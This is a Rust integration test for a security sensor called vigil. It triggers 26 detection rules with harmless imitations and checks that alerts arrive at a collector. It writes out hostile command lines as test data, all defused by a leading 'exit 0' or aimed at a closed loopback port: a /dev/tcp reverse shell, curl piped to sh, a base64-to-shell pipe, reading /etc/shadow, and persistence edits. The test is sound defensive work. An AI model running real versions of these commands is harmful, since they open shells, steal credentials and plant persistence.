//! The default rule pack on the real kernel, end to end: this test performs the behaviour
//! of 26 of the pack's rules (harmlessly: on files in its own directory, against closed
//! loopback ports, with programs that exit at once) and waits for each rule's alert at a
//! real collector over QUIC/mTLS, read back with `vigil alerts`.
//!
//! Every command carries a unique marker (in its arguments or in the path of its own
//! scratch directory), so that only this test's activity can satisfy an expectation.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;
use vigil_tests::{
    bin, certs, json_lines, marker, poll_until, require_root, start_collector, start_sensor,
};

fn pack_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

/// The `id:` of a rule file of the pack.
fn rule_id(stem: &str) -> String {
    let path = pack_dir().join(format!("{stem}.yml"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    text.lines()
        .find_map(|l| l.strip_prefix("id:"))
        .map(|id| id.trim().to_owned())
        .unwrap_or_else(|| panic!("{} has no id", path.display()))
}

/// Runs a command to completion, ignoring its result (several are meant to fail: a refused
/// connection, a killed process), with its output discarded.
fn run(cmd: &mut Command) {
    let _ = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .stdin(Stdio::null())
        .status()
        .unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e}"));
}

fn sh(script: &str) {
    run(Command::new("/bin/sh").arg("-c").arg(script));
}

/// A copy of `from` at `to`, executable.
fn copy_exe(from: &str, to: &Path) {
    std::fs::copy(from, to).unwrap_or_else(|e| panic!("copy {from} to {}: {e}", to.display()));
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

/// Removes a file outside the scratch directory even when the test fails.
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn the_pack_raises_its_alerts_for_real_behaviour_at_the_collector() {
    require_root();
    let m = marker("pack");
    // Under /tmp on purpose: several rules look for activity in world-writable directories.
    let work = tempfile::Builder::new()
        .prefix(&format!("{m}-"))
        .tempdir_in("/tmp")
        .expect("scratch dir");
    let w = work.path().to_path_buf();
    let at = |name: &str| w.join(name);
    let p = |name: &str| at(name).display().to_string();

    // Collector and sensor, with the pack as shipped.
    let certs_dir = w.join("certs");
    certs(&certs_dir, &["init"]);
    for (role, name) in [
        ("--collector", "collector"),
        ("--sensor", "pack-sensor"),
        ("--operator", "pack-operator"),
    ] {
        certs(&certs_dir, &["issue", role, name]);
    }
    let pem = |n: &str| certs_dir.join(n).display().to_string();
    let mut cmd = Command::new(bin("vigil-collector"));
    cmd.args(["--listen", "127.0.0.1:0", "--database"])
        .arg(w.join("collector.db"))
        .args(["--tls-ca", &pem("ca.pem")])
        .args(["--tls-cert", &pem("collector.pem")])
        .args(["--tls-key", &pem("collector-key.pem")]);
    let (collector, address) = start_collector(cmd);
    let sensor = start_sensor(&[
        "--rules",
        pack_dir().to_str().expect("utf-8"),
        "--collector",
        &address,
        "--ca",
        &pem("ca.pem"),
        "--cert",
        &pem("pack-sensor.pem"),
        "--key",
        &pem("pack-sensor-key.pem"),
        "--spool-dir",
        &p("spool"),
    ]);

    std::fs::create_dir(at(".ssh")).expect("mkdir .ssh");
    std::fs::write(at(".ssh/id_rsa"), "not a key\n").expect("write id_rsa");
    let shm = RemoveOnDrop(PathBuf::from(format!("/dev/shm/{m}-tool")));

    // rule file stem → what performs its behaviour.
    let mut expected: BTreeMap<&str, String> = BTreeMap::new();
    let mut expect = |stem: &'static str| {
        expected.insert(stem, rule_id(stem));
    };

    // Collection: an archive of key material.
    run(Command::new("tar")
        .arg("-cf")
        .arg(at("keys.tar"))
        .arg(at(".ssh")));
    expect("archive_of_credentials");
    // Privilege escalation: the setuid bit, by command (and so by chmod syscall).
    std::fs::write(at("suid"), "").expect("write suid");
    run(Command::new("chmod").arg("u+s").arg(at("suid")));
    expect("chmod_setuid_command");
    expect("setuid_bit_set_by_chmod_syscall");
    // A file capability.
    copy_exe("/bin/true", &at("capfile"));
    run(Command::new("setcap")
        .arg("cap_setuid+ep")
        .arg(at("capfile")));
    expect("file_capabilities_set");
    // Impact: a miner (a kill rule; the file name test is enforced from userspace).
    copy_exe("/bin/sh", &at("xmrig"));
    run(Command::new(at("xmrig")).args(["-c", "sleep 5", &m]));
    expect("crypto_miner_executed");
    // Defense evasion: a program run from /dev/shm (a kill rule enforced in the kernel).
    copy_exe("/bin/sh", &shm.0);
    run(Command::new(&shm.0)
        .arg("-c")
        .arg(format!("echo ran > {}", p("shm-ran"))));
    expect("exec_from_dev_shm");
    copy_exe("/bin/true", &at(".hidden-tool"));
    run(&mut Command::new(at(".hidden-tool")));
    expect("hidden_file_executed");
    copy_exe("/bin/true", &at("kw"));
    run(Command::new(at("kw")).arg0("[kworker/0:9]"));
    expect("kernel_thread_name_masquerading");
    sh(&format!("unset HISTFILE # {m}"));
    expect("shell_history_tampering");
    std::fs::write(at("stamped"), "").expect("write stamped");
    run(Command::new("touch")
        .arg("-r")
        .arg("/etc/hostname")
        .arg(at("stamped")));
    expect("timestomp_with_touch");
    // Discovery and offensive tooling.
    copy_exe("/bin/true", &at("nmap"));
    run(Command::new(at("nmap")).args(["-sS", "127.0.0.1"]));
    expect("network_scanner_executed");
    run(Command::new("/bin/true").arg(format!("linpeas-{m}.sh")));
    expect("offensive_linux_tooling");
    // Execution and command and control, as command lines that never connect anywhere.
    sh(&format!(
        "exit 0; bash -i >& /dev/tcp/127.0.0.1/9 0>&1 # {m}"
    ));
    expect("reverse_shell");
    sh(&format!("exit 0; curl -s http://127.0.0.1:9/x | sh # {m}"));
    expect("download_piped_to_shell");
    sh(&format!("echo ZXhpdCAw | base64 -d | sh # {m}"));
    expect("base64_decode_to_shell");
    run(Command::new("/usr/bin/python3").args([
        "-c",
        &format!("import sys; sys.exit(0); socket; '/bin/sh' # {m}"),
    ]));
    expect("interpreter_reverse_shell");
    run(Command::new("/usr/bin/python3")
        .args(["-c", &format!("import os; os.memfd_create('{m}')")]));
    expect("memfd_create_by_interpreter");
    copy_exe("/bin/sh", &at("sh"));
    run(Command::new(at("sh")).args(["-c", "exit 0", &m]));
    expect("shell_from_writable_dir");
    copy_exe("/bin/sh", &at("nginx"));
    run(Command::new(at("nginx")).args(["-c", "/bin/sh -c true; true", &m]));
    expect("web_server_spawns_shell");
    // Lateral movement and exfiltration against a closed loopback port.
    run(Command::new("ssh").args([
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "BatchMode=yes",
        "-o",
        "ConnectTimeout=2",
        "-p",
        "9",
        &format!("{m}@127.0.0.1"),
        "true",
    ]));
    expect("ssh_without_host_key_checking");
    std::fs::write(at("upload"), "data\n").expect("write upload");
    run(Command::new("curl")
        .args(["-s", "--max-time", "2", "-T"])
        .arg(at("upload"))
        .arg(format!("http://127.0.0.1:9/{m}")));
    expect("file_upload_with_curl");
    // Persistence, in this test's own directory (the rules look at file names).
    sh(&format!(
        "echo ssh-ed25519 AAAA {m} > {}",
        p(".ssh/authorized_keys")
    ));
    expect("authorized_keys_modified");
    sh(&format!("echo '# {m}' >> {}", p(".bashrc")));
    expect("shell_profile_modified");
    sh(&format!("echo '|/bin/true' > {}", p("release_agent")));
    expect("cgroup_release_agent_written");
    // Credential access.
    run(Command::new("cat").arg(at(".ssh/id_rsa")));
    expect("ssh_private_key_read");
    run(Command::new("grep").args(["-c", &m, "/etc/shadow"]));
    expect("credential_file_read");

    assert!(
        !at("shm-ran").exists(),
        "the program in /dev/shm was killed at exec and never wrote its file"
    );
    assert!(expected.len() >= 15, "the issue asks for at least 15 rules");

    // Every rule's alert, carrying the marker, at the collector.
    let operator = [
        "--collector".to_owned(),
        address.clone(),
        "--ca".to_owned(),
        pem("ca.pem"),
        "--cert".to_owned(),
        pem("pack-operator.pem"),
        "--key".to_owned(),
        pem("pack-operator-key.pem"),
    ];
    let stored = || -> Vec<Value> {
        let out = Command::new(bin("vigil"))
            .args(&operator)
            .args([
                "alerts", "--since", "10m", "--limit", "100000", "-o", "json",
            ])
            .output()
            .expect("vigil alerts");
        let lines: Vec<String> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(str::to_owned)
            .collect();
        json_lines(&lines)
            .into_iter()
            .filter(|a| a.to_string().contains(&m))
            .collect()
    };
    let missing = |alerts: &[Value]| -> Vec<&str> {
        expected
            .iter()
            .filter(|(_, id)| !alerts.iter().any(|a| a["rule"]["id"] == id.as_str()))
            .map(|(stem, _)| *stem)
            .collect()
    };
    let alerts = poll_until(Duration::from_secs(20), || {
        let alerts = stored();
        missing(&alerts).is_empty().then_some(alerts)
    })
    .unwrap_or_else(|| {
        let alerts = stored();
        panic!(
            "{} of {} rules raised no alert at the collector: {:?}\nsensor:\n{}\ncollector:\n{}",
            missing(&alerts).len(),
            expected.len(),
            missing(&alerts),
            sensor.stderr_text(),
            collector.stderr_text()
        )
    });
    let by_rule = |stem: &str| -> &Value {
        alerts
            .iter()
            .find(|a| a["rule"]["id"] == expected[stem].as_str())
            .expect("checked above")
    };
    let shm_alert = by_rule("exec_from_dev_shm");
    assert_eq!(shm_alert["response"]["by"], "kernel", "{shm_alert:#}");
    assert_eq!(shm_alert["response"]["action"], "killed");
    let miner = by_rule("crypto_miner_executed");
    assert_eq!(miner["response"]["by"], "userspace", "{miner:#}");
    assert_eq!(miner["response"]["action"], "killed");
    eprintln!(
        "{} rules of the pack raised their alerts at the collector",
        expected.len()
    );
}
